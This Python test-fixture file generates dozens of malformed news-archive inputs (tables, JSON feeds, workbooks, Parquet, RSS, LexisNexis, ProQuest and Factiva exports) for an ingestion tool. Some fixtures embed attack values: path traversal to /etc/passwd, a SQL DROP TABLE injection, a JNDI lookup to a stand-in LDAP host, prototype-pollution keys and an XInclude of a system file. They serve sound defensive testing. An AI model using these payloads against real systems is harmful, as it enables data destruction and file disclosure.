"""Bad inputs by one who had read the documents alone: tables, records, feeds, and exports of press archives."""

import base64
import csv
import datetime
import io
import json
import random
import zipfile

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq

from bad_inputs.kinds import Kind

UNKNOWN = ("form not known",)
LEDGER = "The Marlow Ledger"


def rows(header, lines, delimiter=",") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows([header, *lines])
    return out.getvalue()


def each(s, make, *numbers) -> list:
    return [make(n) for n in numbers or (1, 2, 3)]


def titled(s, title: str) -> str:
    """Return a table in which each row has this headline."""
    return rows(["title", "date", "text"], each(s, lambda n: [title, f"2026-03-0{n}", s.text(n)]))


def many(s, count: int, broken: int) -> str:
    lines = each(s, lambda n: [f"Rain {n}", "2026-03-01", s.text(n)], *range(1, count + 1))
    lines[broken] = lines[broken][:2]
    return rows(["title", "date", "text"], lines)


def many_lines(s, count: int, broken: int) -> str:
    lines = [json.dumps({"title": f"Rain {n}", "date": "2026-03-01", "text": s.text(n)}) for n in range(1, count + 1)]
    lines[broken] = lines[broken][:60]
    return "\n".join(lines) + "\n"


HEBREW = "גשם כבד ירד על העיר"


def hebrew(s) -> bytes:
    text = "גשם ירד אתמול על העיר {mark}, והמועצה שנפגשה כדי לדון בבצורת הלכה הביתה מוקדם בלי הצבעה, כך אמרה המזכירה של העיר ביום {n}. אחר כך יצאה השמש והילדים שיחקו ברחוב."
    return rows(
        ["title", "date", "text"], each(s, lambda n: [HEBREW, f"2026-03-0{n}", text.format(mark=s.mark, n=n)])
    ).encode("cp1255")


def dif(s) -> str:
    cells = [["title", "date", "text"], *each(s, lambda n: [f"Rain {n}", f"2026-03-0{n}", s.text(n)])]
    head = 'TABLE\r\n0,1\r\n"EXCEL"\r\nVECTORS\r\n0,4\r\n""\r\nTUPLES\r\n0,3\r\n""\r\nDATA\r\n0,0\r\n""\r\n'
    return (
        head
        + "".join("-1,0\r\nBOT\r\n" + "".join(f'1,0\r\n"{cell}"\r\n' for cell in row) for row in cells)
        + "-1,0\r\nEOD\r\n"
    )


TABLES = [
    Kind("table as collectors of news share it, with parts of the day as fractions", "articles1.csv", lambda s: rows(["", "id", "title", "publication", "author", "date", "year", "month", "url", "content"], each(s, lambda n: [n, 17282 + n, f"Rain {n}", LEDGER, "Ana Roe", f"2026-03-0{n}", "2026.0", "3.0", "", s.text(n)])), 3),
    Kind("rows that differ in their day alone", "a.csv", lambda s: rows(["title", "date", "text"], each(s, lambda n: ["Rain", f"2026-03-0{n}", s.text()])), 1, repeats=2),
    Kind("columns with the names of Broadsheet's own", "a.csv", lambda s: rows(["article_id", "source_path", "source_sha256", "notes", "n_words", "title", "date", "text"], each(s, lambda n: ["0" * 16, "../../etc/passwd", "none", "all is well", "-1", f"Rain {n}", f"2026-03-0{n}", s.text(n)])), 3),
    Kind("Broadsheet's own table of rejects", "rejects.csv", lambda s: rows(["source_path", "record", "reason", "detail"], each(s, lambda n: [f"a/{n}.csv", n, "no text", ""])), 0, ("no text column",)),
    Kind("order to a database in each headline", "a.csv", lambda s: titled(s, "Robert'); DROP TABLE articles;--"), 3, fields={"headline": "Robert'); DROP TABLE articles;--"}),
    Kind("orders of formats in each headline", "a.csv", lambda s: titled(s, "Rain %s%n {0.__class__} ${jndi:ldap://l.example/a}"), 3, fields={"headline": "Rain %s%n {0.__class__} ${jndi:ldap://l.example/a}"}),
    Kind("headline that begins with a word in marks, between commas", "a.csv", lambda s: "title,date,text\n" + "".join(each(s, lambda n: f'"Rain" falls {n} times,2026-03-0{n},"{s.text(n)}"\n')), 3),
    Kind("Hebrew table in the letters of Windows", "a.csv", hebrew, 3, fields={"headline": HEBREW}),
    Kind("table whose name is its ending alone", ".csv", lambda s: s.table(), 0),
    Kind("3,000 rows, one of them short", "a.csv", lambda s: many(s, 3000, 1500), 2999, ("broken row",)),
    Kind("table as an address of data", "a.csv", lambda s: "data:text/csv;base64," + base64.b64encode(s.table().encode()).decode() + "\n", 0, UNKNOWN),
    Kind("table in the form of VisiCalc", "a.dif", dif, 0, UNKNOWN),
    Kind("text and its translation side by side", "a.csv", lambda s: rows(["title", "date", "text", "text_es"], each(s, lambda n: [f"Rain {n}", f"2026-03-0{n}", s.text(n), f"Llovió en {s.mark} el día {n}, y el consejo se fue a casa temprano sin votar, dijo la secretaria."])), 3),
    Kind("address in the column content, beside the text", "a.csv", lambda s: rows(["title", "date", "content", "text"], each(s, lambda n: [f"Rain {n}", f"2026-03-0{n}", f"https://l.example/store/{n}.html", s.text(n)])), 3),
    Kind("number sign as the name of the first column", "a.csv", lambda s: rows(["#", "title", "date", "text"], each(s, lambda n: [n, f"Rain {n}", f"2026-03-0{n}", s.text(n)])), 3),
    Kind("rows that begin with a number sign", "a.csv", lambda s: rows(["id", "title", "date", "text"], each(s, lambda n: [f"#{n}", f"Rain {n}", f"2026-03-0{n}", s.text(n)])), 3),
    Kind("last row with the headline Total", "a.csv", lambda s: rows(["title", "date", "text"], each(s, lambda n: [{3: "Total"}.get(n, f"Rain {n}"), f"2026-03-0{n}", s.text(n)])), 3),
    Kind("last row whose headline begins with Source", "a.csv", lambda s: rows(["title", "date", "text"], each(s, lambda n: [{3: "Source: the rain will go on"}.get(n, f"Rain {n}"), f"2026-03-0{n}", s.text(n)])), 3),
]  # fmt: skip


def cloud(s) -> str:
    return json.dumps(
        {
            "records": each(
                s,
                lambda n: {
                    "id": f"rec00{n}",
                    "createdTime": "2026-03-04T10:00:00.000Z",
                    "fields": {"Title": f"Rain {n}", "Date": f"2026-03-0{n}", "Text": s.text(n)},
                },
            ),
            "offset": "itr1",
        }
    )


def registry(s) -> str:
    return json.dumps(
        {
            "articles": {
                "results": each(
                    s,
                    lambda n: {
                        "uri": f"80{n}",
                        "lang": "eng",
                        "isDuplicate": False,
                        "date": f"2026-03-0{n}",
                        "time": "10:00:00",
                        "sim": 0,
                        "url": f"https://l.example/{n}",
                        "title": f"Rain {n}",
                        "body": s.text(n),
                        "source": {"uri": "l.example", "dataType": "news", "title": LEDGER},
                        "image": None,
                        "sentiment": 0.1,
                    },
                ),
                "totalResults": 3,
                "page": 1,
                "count": 100,
                "pages": 1,
            }
        }
    )


def pandas_table(s) -> str:
    fields = [
        {"name": "index", "type": "integer"},
        *({"name": name, "type": "string"} for name in ("title", "date", "text")),
    ]
    return json.dumps(
        {
            "schema": {"fields": fields, "primaryKey": ["index"], "pandas_version": "1.4.0"},
            "data": [{"index": n, **record} for n, record in enumerate(s.records())],
        }
    )


def hub(s) -> str:
    features = [
        {"feature_idx": n, "name": name, "type": {"dtype": "string", "_type": "Value"}}
        for n, name in enumerate(("title", "date", "text"))
    ]
    return json.dumps(
        {
            "features": features,
            "rows": [{"row_idx": n, "row": record, "truncated_cells": []} for n, record in enumerate(s.records())],
            "num_rows_total": 3,
            "partial": False,
        }
    )


def extracted(s) -> str:
    return "".join(
        json.dumps(
            {
                "title": f"Rain {n}",
                "author": "Ana Roe",
                "hostname": "l.example",
                "date": f"2026-03-0{n}",
                "fingerprint": f"00{n}",
                "id": None,
                "license": None,
                "comments": "",
                "raw_text": s.text(n),
                "text": s.text(n),
                "language": None,
                "image": None,
                "pagetype": "article",
                "filedate": "2026-03-04",
                "source": f"https://l.example/{n}",
                "source-hostname": "Ledger",
                "excerpt": None,
                "categories": "",
                "tags": "",
            }
        )
        + "\n"
        for n in (1, 2, 3)
    )


INTERFACE = {"openapi": "3.0.0", "info": {"title": "Articles", "version": "1.0", "description": "The interface hands out articles."}, "paths": {"/articles": {"get": {"summary": "List the articles", "responses": {"200": {"description": "A list of articles"}}}}}}  # fmt: skip

RECORDS = [
    Kind("lines that differ in their author alone", "a.jsonl", lambda s: "".join(json.dumps({"title": "Rain", "author": name, "date": "2026-03-01", "text": s.text()}) + "\n" for name in ("Ana Roe", "Tom Vale", "Cal Quill")), 1, repeats=2),
    Kind("answer of a news service that found nothing", "a.json", lambda s: '{"status":"ok","totalResults":0,"articles":[]}', 0, ("no text",)),
    Kind("answer of a news service that does not know the key", "a.json", lambda s: '{"status":"error","code":"apiKeyInvalid","message":"Your API key is invalid or incorrect. Check your key, or go to the site to make a new one."}', 0, ("no text",)),
    Kind("headers of the answer above a list", "a.json", lambda s: "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nDate: Sun, 01 Mar 2026 10:00:00 GMT\r\n\r\n" + json.dumps(s.records()), 3),
    Kind("list between the fences of Markdown", "a.json", lambda s: "```json\n" + json.dumps(s.records(), indent=2) + "\n```\n", 3),
    Kind("tabs as they are in strings of a list", "a.json", lambda s: json.dumps(each(s, lambda n: {"title": f"Rain {n}", "date": f"2026-03-0{n}", "text": "TAB" + s.text(n)})).replace("TAB", "\t"), 3),
    Kind("keys that a program keeps for itself", "a.json", lambda s: json.dumps(each(s, lambda n: s.record(n) | {"__proto__": {"text": "x"}, "constructor": {"prototype": {}}, "__class__": "os", "self": 1, "kwargs": {}})), 3),
    Kind("outlet as an object with its title", "a.json", registry, 3, fields={"outlet": LEDGER}),
    Kind("records of a table in the cloud", "a.json", cloud, 3),
    Kind("values of a sheet as its service hands them out", "a.json", lambda s: json.dumps({"range": "Sheet1!A1:C4", "majorDimension": "ROWS", "values": [["title", "date", "text"], *each(s, lambda n: [f"Rain {n}", f"2026-03-0{n}", s.text(n)])]}), 3),
    Kind("schema and rows as pandas writes them", "a.json", pandas_table, 3),
    Kind("rows as a store of data sets shows them", "a.json", hub, 3),
    Kind("lines of a program that takes stories out of pages", "a.jsonl", extracted, 3),
    Kind("2,000 lines, one of them cut", "a.jsonl", lambda s: many_lines(s, 2000, 1000), 1999, ("not valid JSON",)),
    Kind("description of an interface in JSON", "openapi.json", lambda s: json.dumps(INTERFACE, indent=2), 0, ("no text",)),
]  # fmt: skip


def book(s, change=None) -> bytes:
    made = openpyxl.Workbook()
    made.active.append(["title", "date", "text"])
    for n in (1, 2, 3):
        made.active.append([f"Rain {n}", datetime.datetime(2026, 3, n), s.text(n)])
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def repacked(data: bytes, change=None, *, more=(), method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", method) as new:
        for name in sorted(old.namelist()):
            content = old.read(name)
            new.writestr(name, change(name, content) if change else content)
        for name, content in more:
            new.writestr(name, content)
    return out.getvalue()


def names(name: str, content: bytes) -> bytes:
    if name != "xl/workbook.xml":
        return content
    defined = b'<definedNames><definedName name="Texts">#REF!</definedName><definedName name="_xlnm._FilterDatabase" localSheetId="7" hidden="1">Gone!$A$1:$C$4</definedName></definedNames>'
    content = content.replace(b"<definedNames />", b"").replace(b"<definedNames/>", b"")
    return content.replace(b"</sheets>", b"</sheets>" + defined)


def style(name: str, content: bytes) -> bytes:
    return content.replace(b's="1"', b's="9999"') if name.startswith("xl/worksheets/") else content


def far(made) -> None:
    made.active["B3"] = 99_999_999
    made.active["B3"].number_format = "yyyy-mm-dd"


def bloated(made) -> None:
    font = openpyxl.styles.Font(bold=True)
    for row in range(5, 20_005):
        for column in (1, 2, 3):
            made.active.cell(row, column).font = font


def template(name: str, content: bytes) -> bytes:
    return (
        content.replace(b"spreadsheetml.sheet.main+xml", b"spreadsheetml.template.main+xml")
        if name == "[Content_Types].xml"
        else content
    )


def recoded(data: bytes) -> bytes:
    return data.decode("utf-8", "replace").encode()


def ods(s) -> bytes:
    lines = [["title", "date", "text"], *each(s, lambda n: [f"Rain {n}", f"2026-03-0{n}", s.text(n)])]
    cells = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{cell}</text:p></table:table-cell>' for cell in row
        )
        + "</table:table-row>"
        for row in lines
    )
    urn = "urn:oasis:names:tc:opendocument:xmlns:"
    content = f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="{urn}office:1.0" xmlns:table="{urn}table:1.0" xmlns:text="{urn}text:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="Sheet1">{cells}</table:table></office:spreadsheet></office:body></office:document-content>'
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="{urn}manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("mimetype", kind)
        made.writestr("content.xml", content)
        made.writestr("META-INF/manifest.xml", manifest)
    return out.getvalue()


def zipped(members) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in members.items():
            made.writestr(name, content)
    return out.getvalue()


APPLE = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        \x00\x02\x00\x00\x00\x09\x00\x00\x00\x32\x00\x00\x00\x70"

WORKBOOKS = [
    Kind("workbook whose names point to nothing", "a.xlsx", lambda s: repacked(book(s), names), 3),
    Kind("workbook with a style that is not there", "a.xlsx", lambda s: repacked(book(s), style), 3),
    Kind("day beyond the year 9999 in a workbook", "a.xlsx", lambda s: book(s, far), 3),
    Kind("workbook that was unpacked and packed again on a Mac", "a.xlsx", lambda s: repacked(book(s), more=[("__MACOSX/._xl", APPLE), ("xl/.DS_Store", b"\0\0\0\1Bud1" + b"\0" * 40), ("__MACOSX/xl/._workbook.xml", APPLE)]), 3),
    Kind("workbook that is packed without making it smaller", "a.xlsx", lambda s: repacked(book(s), method=zipfile.ZIP_STORED), 3),
    Kind("template of a workbook", "a.xltx", lambda s: repacked(book(s), template), 3),
    Kind("20,000 rows of fonts alone below the rows", "a.xlsx", lambda s: book(s, bloated), 3),
    Kind("workbook that a program saved as letters", "a.xlsx", lambda s: recoded(book(s)), 0, ("damaged zip",)),
    Kind("workbook still in the letters of its e-mail", "a.xlsx", lambda s: base64.encodebytes(book(s)), 0, UNKNOWN),
    Kind("table of OpenDocument named as a workbook", "a.xlsx", ods, 0, UNKNOWN),
    Kind("table of OpenDocument beside a table in a ZIP", "a.zip", lambda s: zipped({"a.ods": ods(s), "b.csv": s.table()}), 3, UNKNOWN),
]  # fmt: skip


def parquet(columns: dict, **options) -> bytes:
    out = io.BytesIO()
    pq.write_table(pa.table(columns), out, **options)
    return out.getvalue()


def columns(s, **more) -> dict:
    records = s.records()
    return {name: [record[name] for record in records] for name in ("title", "date", "text")} | more


def own(s) -> bytes:
    day = [datetime.datetime(2026, 3, n, tzinfo=datetime.UTC) for n in (1, 2, 3)]
    known = {"article_id": [f"{n:016x}" for n in (1, 2, 3)], "outlet": [LEDGER] * 3, "published": pa.array(day, pa.timestamp("us", "UTC")), "headline": [f"Rain {n}" for n in (1, 2, 3)], "byline": [["Ana Roe"]] * 3, "dateline": pa.array([None] * 3, pa.string()), "section": pa.array([None] * 3, pa.string()), "url": pa.array([None] * 3, pa.string()), "language": ["en"] * 3, "origin": pa.array([None] * 3, pa.string())}  # fmt: skip
    empty = {
        name: pa.array([[]] * 3, pa.list_(pa.string())) for name in ("summary", "captions", "photo_credit", "subheads")
    }
    rest = {
        "subhead_offsets": pa.array([[]] * 3, pa.list_(pa.int64())),
        "text": [s.text(n) for n in (1, 2, 3)],
        "n_words": [37] * 3,
        "source_path": ["a/a.csv"] * 3,
        "source_sha256": ["0" * 64] * 3,
        "notes": [["no date"]] * 3,
    }
    return parquet(known | empty | rest)


def rare(s) -> bytes:
    import decimal

    return parquet(columns(
        s,
        none=pa.nulls(3),
        small=pa.array([1, 2, 3], pa.uint8()),
        money=pa.array([decimal.Decimal("1.20")] * 3, pa.decimal128(38, 10)),
        hour=pa.array([datetime.time(10)] * 3, pa.time64("us")),
        span=pa.array([datetime.timedelta(hours=1)] * 3, pa.duration("s")),
        key=pa.array([bytes(16)] * 3, pa.binary(16)),
        pairs=pa.array([[("a", 1)]] * 3, pa.map_(pa.string(), pa.int32())),
        box=pa.array([{"a": {"b": [1, None]}}] * 3),
    ))  # fmt: skip


def indexed(s) -> bytes:
    table = pa.table(columns(s, __index_level_0__=[11, 12, 13]))
    kinds = [
        {"name": name, "field_name": name, "pandas_type": kind, "numpy_type": "object", "metadata": None}
        for name, kind in (
            ("title", "unicode"),
            ("date", "unicode"),
            ("text", "unicode"),
            ("__index_level_0__", "int64"),
        )
    ]
    known = {"index_columns": ["__index_level_0__"], "column_indexes": [], "columns": kinds, "pandas_version": "2.2.0"}
    out = io.BytesIO()
    pq.write_table(table.replace_schema_metadata({"pandas": json.dumps(known)}), out)
    return out.getvalue()


def noise(head: bytes) -> bytes:
    return head + random.Random(5).randbytes(4000)


STORES = [
    Kind("Broadsheet's own table of articles", "articles.parquet", own, 3, fields={"outlet": LEDGER}),
    Kind("Parquet with the index of pandas", "a.parquet", indexed, 3),
    Kind("Parquet with columns of rare types beside the text", "a.parquet", rare, 3),
    Kind("Parquet in LZ4", "a.parquet", lambda s: parquet(columns(s), compression="lz4"), 3),
    Kind("times of the oldest form in Parquet", "a.parquet", lambda s: parquet(columns(s, date=pa.array([datetime.datetime(2026, 3, 1, 10)] * 3, pa.timestamp("ns"))), use_deprecated_int96_timestamps=True), 3, fields={"published": "2026-03-01"}),
    Kind("Parquet that lost the eighth bit of each byte", "a.parquet", lambda s: bytes(byte & 127 for byte in parquet(columns(s))), 0, ("damaged Parquet file",)),
    Kind("store of arrays of the sciences", "a.h5", lambda s: noise(b"\x89HDF\r\n\x1a\n\0\0\0\0\0\x08\x08\0"), 0, UNKNOWN),
    Kind("data of a program for polls", "a.sav", lambda s: noise(b"$FL2@(#) IBM SPSS STATISTICS 64-bit MS Windows 27.0.0.0      \x02\0\0\0"), 0, UNKNOWN),
]  # fmt: skip


def feed(s, *, head="", link="https://l.example/{n}", title="Rain {n}", more="", end="", inside="") -> str:
    spaces = 'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:xi="http://www.w3.org/2001/XInclude"'
    items = "".join(
        f"<item><title>{title.format(n=n)}</title><link>{link.format(n=n)}</link>{more}<pubDate>Sun, 0{n} Mar 2026 10:00:00 GMT</pubDate><content:encoded><![CDATA[<p>{s.text(n)}</p>]]></content:encoded></item>"
        for n in (1, 2, 3)
    )
    return f'{head}<rss version="2.0" {spaces}><channel><title>{LEDGER}</title><link>https://l.example/</link><description>News</description>{inside}{items}</channel></rss>{end}'


XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
RUSSIAN = "Дождь прошёл над городом"


def russian(s) -> bytes:
    made = feed(s, head='<?xml version="1.0" encoding="windows-1251"?>\n', title=RUSSIAN)
    return made.replace("went home early", "(по-русски: ушёл домой рано) went home early").encode("cp1251")


FEEDS = [
    Kind("bare signs for and in the addresses of a feed", "feed.xml", lambda s: feed(s, head=XML, link="https://l.example/?id={n}&from=rss&to=all"), 3),
    Kind("names of signs of HTML in the headlines of a feed", "feed.xml", lambda s: feed(s, head=XML, title="It&rsquo;s rain&nbsp;{n}&hellip;"), 3),
    Kind("complaint of PHP above a feed", "feed.xml", lambda s: feed(s, head="<br />\n<b>Warning</b>:  Undefined variable $a in <b>/var/www/feed.php</b> on line <b>3</b><br />\n" + XML), 3),
    Kind("Russian feed in the letters of Windows that says so", "feed.xml", russian, 3, fields={"headline": RUSSIAN}),
    Kind("author of a feed behind the address of mail", "feed.xml", lambda s: feed(s, head=XML, more="<author>ana.roe@l.example (Ana Roe)</author>"), 3, fields={"byline": ["Ana Roe"]}),
    Kind("feed that wants a file of the system within itself", "feed.xml", lambda s: feed(s, head=XML, inside='<xi:include href="file:///etc/passwd" parse="text"/>'), 3),
    Kind("rows of a database in XML", "a.xml", lambda s: XML + '<resultset statement="select * from articles" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">' + "".join(f'<row><field name="title">Rain {n}</field><field name="text">{s.text(n)}</field></row>' for n in (1, 2, 3)) + "</resultset>\n", 0, UNKNOWN),
    Kind("fault that a service answers in XML", "a.xml", lambda s: XML + '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><soap:Fault><faultcode>soap:Server</faultcode><faultstring>The server could not read the request of the client.</faultstring></soap:Fault></soap:Body></soap:Envelope>\n', 0, UNKNOWN),
]  # fmt: skip


def lexis(s, *, middle=lambda words: words.center(78).rstrip()) -> str:
    made = ""
    for n in (1, 2):
        made += (
            "\n\n"
            + middle(f"{n} of 2 DOCUMENTS")
            + "\n\n\n"
            + middle(LEDGER)
            + "\n\n"
            + middle(f"March {n}, 2026 {('Sunday', 'Monday')[n - 1]}")
            + f"\n\nRain {n} in {s.mark}\n\nBYLINE: By Ana Roe\n\nSECTION: Metro; Pg. A{n}\n\nLENGTH: 40 words\n\n"
        )
        made += (
            "\n\n".join(s.long(n).split("\n\n"))
            + "\n\nLOAD-DATE: March 4, 2026\n\nLANGUAGE: ENGLISH\n\nPUBLICATION-TYPE: Newspaper\n\n\n"
            + middle(f"Copyright 2026 {LEDGER}")
            + "\n"
            + middle("All Rights Reserved")
            + "\n\n"
        )
    return made


def proquest(s, count=3, within="") -> str:
    rule = "_" * 60
    made = ""
    for n in range(1, count + 1):
        text = s.long(n).replace("\n\n", f"\n\n{within}\n\n", 1) if within else s.long(n)
        made += f"{rule}\n\nDocument {n} of {count}\n\nRain {n} in {s.mark}\n\nAuthor: Roe, Ana\n\nPublication info: {LEDGER} ; Marlow [Marlow]. 01 Mar 2026: A.{n}.\n\nProQuest document link\n\nFull text: {text}\n\nSubject: Rain; Councils\n\nTitle: Rain {n} in {s.mark}\n\nPublication title: {LEDGER}\n\nPages: A.{n}\n\nPublication year: 2026\n\nPublication date: Mar 1, 2026\n\nSection: Metro\n\nPublisher: {LEDGER}\n\nLanguage of publication: English\n\nDocument type: News\n\nProQuest document ID: 30000000{n}\n\nDatabase: U.S. Newsstream\n\n"
    return (
        made
        + rule
        + "\n\nContact us at: http://about.proquest.com/go/pqissupportcontact\n\nDatabase copyright © 2026 ProQuest LLC. All rights reserved.\n\nTerms and Conditions: https://www.proquest.com/info/termsAndConditions\n"
    )


def factiva(s) -> str:
    made = ""
    for n in (1, 2):
        story = "".join(
            f'<p class="articleParagraph enarticleParagraph">{part}</p>' for part in s.long(n).split("\n\n")
        )
        made += f'<div id="article-LED000002026030{n}ec310000{n}"><div class="article enArticle"><div id="hd"><span class="enHeadline">Rain {n} in {s.mark}</span></div><div class="author">By Ana Roe</div><div>160 words</div><div>{n} March 2026</div><div>{LEDGER}</div><div>LED</div><div>English</div><div>Copyright 2026 {LEDGER}</div>{story}<p>Document LED000002026030{n}ec310000{n}</p></div></div>'
    return f"<!DOCTYPE html><html><head><title>Factiva</title></head><body>{made}</body></html>"


def coded(s) -> str:
    """Return Factiva's form with a code in front of each field."""
    made = ""
    for n in (1, 2):
        lead, *tail = [f'<p class="articleParagraph enarticleParagraph">{part}</p>' for part in s.long(n).split("\n\n")]
        head = f'<span class="enHeadline">Rain {n} in {s.mark}</span>'
        fields = {
            "SE": "Metro",
            "HD": head,
            "BY": "By Ana Roe",
            "WC": "160 words",
            "PD": f"{n} March 2026",
            "SN": LEDGER,
            "SC": "LED",
            "PG": f"A{n}",
            "LA": "English",
            "CY": f"Copyright 2026 {LEDGER}",
            "LP": lead,
            "TD": "".join(tail),
            "RE": "usa : United States",
            "PUB": LEDGER,
            "AN": f"Document LED000002026030{n}ec310000{n}",
        }
        cells = "".join(
            f'<tr><td class="index" align="right" valign="top"><b>{code}</b>&nbsp;</td><td>{value}</td></tr>'
            for code, value in fields.items()
        )
        made += f'<div id="article-LED000002026030{n}ec310000{n}" class="article enArticle"><table>{cells}</table><br/></div>'
    return f"<!DOCTYPE html><html><head><title>Factiva</title></head><body>{made}</body></html>"


def nexis(s, n=1) -> bytes:
    def line(words, label="", mark=""):
        start = f'<w:bookmarkStart w:id="{n}" w:name="{mark}"/><w:bookmarkEnd w:id="{n}"/>' if mark else ""
        bold = f'<w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">{label}</w:t></w:r>' if label else ""
        return f'<w:p>{start}{bold}<w:r><w:t xml:space="preserve">{words}</w:t></w:r></w:p>'

    story = "".join(line(part) for part in s.long(n).split("\n\n"))
    inside = (
        line("", mark=f"Bookmark_{n}")
        + line("", f"Rain {n} in {s.mark}")
        + line(LEDGER)
        + line(f"March {n}, 2026 Sunday")
        + line(f"Copyright 2026 {LEDGER} All Rights Reserved")
        + line(" METRO; Pg. A1", "Section:")
        + line(" 160 words", "Length:")
        + line(" By Ana Roe", "Byline:")
        + line("", "Body", mark=f"Body_{n}")
        + story
        + line(" March 4, 2026", "Load-Date:")
        + line("", "End of Document")
    )
    types = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    links = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
    document = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{inside}</w:body></w:document>'
    return zipped({"[Content_Types].xml": types, "_rels/.rels": links, "word/document.xml": document})


ARCHIVES = [
    Kind("LexisNexis whose lines stand behind tabs", "a.txt", lambda s: lexis(s, middle=lambda words: "\t\t\t" + words), 2),
    Kind("LexisNexis with a blank line behind each line", "a.txt", lambda s: lexis(s).replace("\n", "\n\n"), 2),
    Kind("LexisNexis without the blanks in front of its lines", "a.txt", lambda s: lexis(s, middle=lambda words: words), 2),
    Kind("LexisNexis named as an old Word document", "a.doc", lexis, 2),
    Kind("Factiva with a code in front of each field", "a.html", coded, 2),
    Kind("Factiva saved as RTF", "a.rtf", lambda s: "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\pard\\b Rain in " + s.mark + "\\b0\\par 160 words\\par 1 March 2026\\par The Marlow Ledger\\par English\\par " + s.text() + "\\par Document LED0000020260301ec3100001\\par}", 0, UNKNOWN),
    Kind("ProQuest named as RTF", "a.rtf", proquest, 3),
    Kind("ProQuest with a short rule within a text", "a.txt", lambda s: proquest(s, within="_" * 10), 3),
    Kind("120 documents of ProQuest", "a.txt", lambda s: proquest(s, 120), 120),
    Kind("Nexis named as an old Word document", "a.doc", nexis, 1),
]  # fmt: skip


KINDS = [*TABLES, *RECORDS, *WORKBOOKS, *STORES, *FEEDS, *ARCHIVES]
